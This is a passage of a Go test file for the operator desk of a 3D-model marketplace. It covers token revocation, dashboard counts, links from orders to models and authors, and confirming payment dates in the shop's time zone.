		{http.MethodGet, "/desk/applications/2", 404, ""},
		{http.MethodGet, "/desk/applications/tokens?find=ada", 200, "Token 1"},
		{http.MethodGet, "/desk/applications/tokens?find=%231", 200, "Token 1"},
		{http.MethodGet, "/desk/applications/tokens?find=%23x", 200, "No access token is like that."},
		{http.MethodGet, "/desk/applications/tokens?find=eve", 200, "No access token is like that."},
		{http.MethodPost, "/desk/applications/tokens/1/revoke", 303, ""},
		{http.MethodPost, "/desk/applications/tokens/1/revoke", 404, ""},
		{http.MethodGet, "/desk/applications/tokens?done=token", 200, "The token is revoked."},
		{http.MethodGet, "/desk/applications/tokens?find=ada", 200, "No access token is like that."},
		{http.MethodGet, "/desk/applications/tokens", 200, "Token 2"},
		{http.MethodPost, "/desk/applications/1/revoke", 404, ""},
		{http.MethodPost, "/desk/applications/1/remove", 303, ""},
		{http.MethodGet, "/desk/applications?done=removed", 200, "There are no applications yet."},
	} {
		got := s.ask(t, step.method, step.path, operator, url.Values{})
		if got.Code != step.status || !strings.Contains(got.Body.String(), step.says) {
			t.Errorf("%s %s answers %d, wants %d and %q:\n%s", step.method, step.path, got.Code, step.status, step.says, got.Body)
		}
	}
}

// TestToday counts what was ordered and what waits.
func TestToday(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	secret := s.operator(t, "op-one")
	unwritten := `<a href="/desk/pages">pages not written yet</a> <strong>5</strong>`
	empty := s.ask(t, http.MethodGet, "/desk", secret, nil).Body.String()
	if strings.Count(empty, "<strong>") != 1 || !strings.Contains(empty, unwritten) {
		t.Errorf("an empty marketplace:\n%s", empty)
	}
	o := s.order(t, "one", "buyer@example.com")
	s.order(t, "two", "buyer@example.com")
	said := shop.NewReport{Page: "/terms", Kind: vitrine.ReportOther, Explanation: "x", Name: "Eve", Email: "eve@example.com", GoodFaith: true}
	if _, _, err := s.shop.Report(t.Context(), said); err != nil {
		t.Fatal(err)
	}
	ruling := vitrine.Ruling{Action: vitrine.ActHide, Ground: vitrine.GroundTerms, Reason: "No.", Downloads: true}
	chief := shop.SignedIn{User: vitrine.User{ID: 1, IsAdmin: true}, Session: vitrine.Session{ProvedAt: s.clock.Now()}}
	author := shop.SignedIn{User: vitrine.User{ID: o.UserID}}
	if err := errors.Join(s.shop.RuleModel(t.Context(), chief, o.ModelID, ruling), s.shop.Object(t.Context(), author, 1, "Yes.")); err != nil {
		t.Fatal(err)
	}
	if _, err := s.shop.MarkPaid(t.Context(), o.ID, ""); err != nil {
		t.Fatal(err)
	}
	s.clock.Advance(time.Minute) // what was added up is kept for a moment
	got := strings.Join(strings.Fields(s.ask(t, http.MethodGet, "/desk", secret, nil).Body.String()), " ")
	for _, want := range []string{
		`<a href="/desk/orders?status=unpaid">transfer to confirm</a> <strong>1</strong>`,
		`<a href="/desk/reports">report to decide</a> <strong>1</strong>`,
		`<a href="/desk/reports#objections">author’s answer to read</a> <strong>1</strong>`,
		`<th scope="row">Today</th><td class="number">2</td><td class="number">1</td><td class="number">12.50 USD</td>`,
	} {
		if !strings.Contains(got, want) {
			t.Errorf("the page lacks %q:\n%s", want, got)
		}
	}
	s.clock.Advance(8 * 24 * time.Hour)
	secret = s.operator(t, "op-two")
	if got := s.ask(t, http.MethodGet, "/desk", secret, nil).Body.String(); !strings.Contains(got, "There were none.") {
		t.Errorf("a week later:\n%s", got)
	}
}

// TestDeskLeadsOn goes from orders and rejected files to the models and people that they are about.
func TestDeskLeadsOn(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	secret, o := s.operator(t, "op-one"), s.order(t, "one", "buyer@example.com")
	model, err := s.db.Model(t.Context(), o.ModelID)
	if err != nil {
		t.Fatal(err)
	}
	reject := func(model int64, name string) error {
		return s.db.Write(t.Context(), func(tx *store.Tx) error {
			return tx.InsertFile(t.Context(), &vitrine.File{ModelID: model, Name: name, Status: vitrine.FileRejected, BlobKey: "files/" + name,
				Problems: []vitrine.Problem{{Code: "empty", Detail: "it is empty"}}, CreatedAt: s.clock.Now(), UpdatedAt: s.clock.Now()})
		})
	}
	var draft int64
	write(t, s.db, func(tx *store.Tx) (err error) {
		draft, err = tx.CopyModel(t.Context(), model, s.clock.Now())
		return err
	})
	if err := errors.Join(reject(model.ID, "chair.stl"), reject(draft, "other.stl")); err != nil {
		t.Fatal(err)
	}
	author, look := fmt.Sprint("/desk/people/", model.AuthorID), fmt.Sprint("/desk/models/", model.ID)
	jobs := s.ask(t, http.MethodGet, "/desk/jobs", secret, nil).Body.String()
	if strings.Count(jobs, `<a href="`+look+`">`) != 2 || strings.Count(jobs, `<a href="`+author+`">`) != 2 {
		t.Errorf("rejected files, of a draft version too, do not lead to their model and its author:\n%s", jobs)
	}
	page := s.ask(t, http.MethodGet, pathOf(o), secret, nil).Body.String()
	if !strings.Contains(page, `<a href="`+look+`">`) || !strings.Contains(page, `<a href="`+author+`">`) {
		t.Errorf("the order does not lead to its model and its author:\n%s", page)
	}
	app, _, err := s.shop.CreateApplication(t.Context(),
		shop.NewApplication{Name: "Slicer", OwnerID: o.UserID, Scopes: vitrine.DefaultScopes()})
	if err != nil {
		t.Fatal(err)
	}
	made := *o
	made.UUID, made.Handle, made.ApplicationID = "two", "two", app.ID
	write(t, s.db, func(tx *store.Tx) error {
		_, err := tx.InsertOrder(t.Context(), &made)
		return err
	})
	program := fmt.Sprintf(`<a href="/desk/applications/%d">`, app.ID)
	if page := s.ask(t, http.MethodGet, pathOf(&made), secret, nil).Body.String(); !strings.Contains(page, program) {
		t.Errorf("the order does not lead to the application that made it:\n%s", page)
	}
	write(t, s.db, func(tx *store.Tx) error {
		return errors.Join(tx.RemoveApplication(t.Context(), app.ID, s.clock.Now()), tx.DeleteModel(t.Context(), model.ID, s.clock.Now()))
	})
	page = s.ask(t, http.MethodGet, pathOf(&made), secret, nil).Body.String()
	if strings.Contains(page, program) || !strings.Contains(page, "Slicer") {
		t.Errorf("the order leads to an application that is gone, or does not name it:\n%s", page)
	}
	if page := s.ask(t, http.MethodGet, pathOf(o), secret, nil); page.Code != http.StatusOK || strings.Contains(page.Body.String(), look) {
		t.Errorf("the order leads to a model that is gone: %d", page.Code)
	}
}

// TestMoneyCameOnADay confirms an order as paid on a day in the marketplace's zone, and says at the field which days it can be.
func TestMoneyCameOnADay(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	write(t, s.db, func(tx *store.Tx) error {
		return tx.SetTaxRules(t.Context(), vitrine.TaxRules{Mode: vitrine.TaxOff, Seller: vitrine.ShopSells, Zone: "Pacific/Kiritimati"})
	})
	o := s.order(t, "one", "buyer@example.com")
	zone := time.FixedZone("LINT", 14*60*60)
	day := func(d time.Duration) string { return o.CreatedAt.Add(d).In(zone).Format(time.DateOnly) }
	s.clock.Advance(48 * time.Hour)
	secret := s.operator(t, "op-one")
	page := s.ask(t, http.MethodGet, pathOf(o), secret, nil).Body.String()
	for _, want := range []string{`min="` + day(0) + `" max="` + day(48*time.Hour) + `"`, "in the time zone Pacific/Kiritimati"} {
		if !strings.Contains(page, want) {
			t.Errorf("the page lacks %s:\n%s", want, page)
		}
	}
	form := s.version(t, o)
	for _, wrong := range []string{day(-24 * time.Hour), day(72 * time.Hour), "4.3."} {
		form.Set("paid_at", wrong)
		got := s.ask(t, http.MethodPost, pathOf(o)+"/confirm", secret, form)
		if page := got.Body.String(); got.Code != http.StatusUnprocessableEntity || !strings.Contains(page, `id="paid-at-fault"`) ||
			!strings.Contains(page, `value="`+wrong+`"`) || strings.Contains(page, `id="note-fault"`) {
			t.Errorf("%s: %d\n%s", wrong, got.Code, page)
		}
	}
	form.Set("paid_at", day(24*time.Hour))
	if got := s.ask(t, http.MethodPost, pathOf(o)+"/confirm", secret, form); got.Code != http.StatusSeeOther {
		t.Fatalf("confirmed: %d\n%s", got.Code, got.Body)
	}
	paid, err := s.db.Order(t.Context(), o.ID)
	if err != nil || paid.Status != vitrine.Paid || paid.PaidAt.In(zone).Format(time.DateOnly) != day(24*time.Hour) {
		t.Errorf("it was paid at %v, %v; want on %s", paid.PaidAt, err, day(24*time.Hour))
	}
	page = s.ask(t, http.MethodGet, pathOf(o), secret, nil).Body.String()
	if strings.Contains(page, `name="paid_at"`) || !strings.Contains(page, day(24*time.Hour)) {
		t.Errorf("the page of what is paid asks for the day, or does not say it:\n%s", page)
	}
}
